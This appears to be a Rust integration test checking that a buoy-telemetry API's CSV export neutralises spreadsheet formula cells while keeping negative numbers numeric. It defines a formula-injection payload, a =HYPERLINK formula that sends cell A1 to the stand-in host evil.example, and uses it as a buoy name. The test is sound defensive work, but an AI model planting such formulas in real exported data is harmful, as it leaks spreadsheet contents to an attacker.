//! CSV answers neutralise formula cells (issue #23 §2), over real HTTPS: a buoy registered
//! with the name `=HYPERLINK(...)` comes back as a quoted text cell with a leading `'`, while
//! negative numbers in numeric columns stay numbers.

use bluewave_web::{Method, StatusCode};
use serde_json::json;

use crate::api::{ADMIN, Api, T0};

const PAYLOAD: &str = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open\")";

#[tokio::test]
async fn a_formula_buoy_name_is_neutralised_and_negative_numbers_stay_numbers() {
    let api = Api::start().await;
    let admin = api.token(ADMIN).await;
    let registered = api
        .post(
            "/api/buoys",
            Some(&admin),
            json!({ "id": "buoy-x", "name": PAYLOAD, "lat": -33.5, "lng": -2.25, "status": "active" }),
        )
        .await;
    assert_eq!(registered.status, StatusCode::CREATED, "{:?}", registered.body);
    let operator = api.token("operator@example.org").await;
    let batch = json!({ "buoy_id": "buoy-x", "batch_seq": 1, "readings": [
        { "metric": "water_temp_c", "ts": T0, "value": -1.5 },
    ]});
    assert_eq!(api.post("/api/telemetry", Some(&operator), batch).await.status, StatusCode::OK);
    let sql = "SELECT b.name, b.latitude, r.value, r.metric, '-' || r.metric AS dashed \
               FROM readings r JOIN buoys b ON b.id = r.buoy_id";
    let csv = api
        .request(
            Method::POST,
            "/api/query",
            Some(&admin),
            &[("accept", "text/csv")],
            Some(json!({ "sql": sql })),
        )
        .await;
    assert_eq!(csv.status, StatusCode::OK);
    assert_eq!(
        String::from_utf8_lossy(&csv.body),
        "name,latitude,value,metric,dashed\n\
         \"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"open\"\")\",-33.5,-1.5,water_temp_c,\"'-water_temp_c\"\n"
    );
    // JSON keeps the name as it was registered.
    let as_json = api.post("/api/query", Some(&admin), json!({ "sql": "SELECT name FROM buoys" })).await;
    assert_eq!(as_json.json(), json!([{ "name": PAYLOAD }]));
}
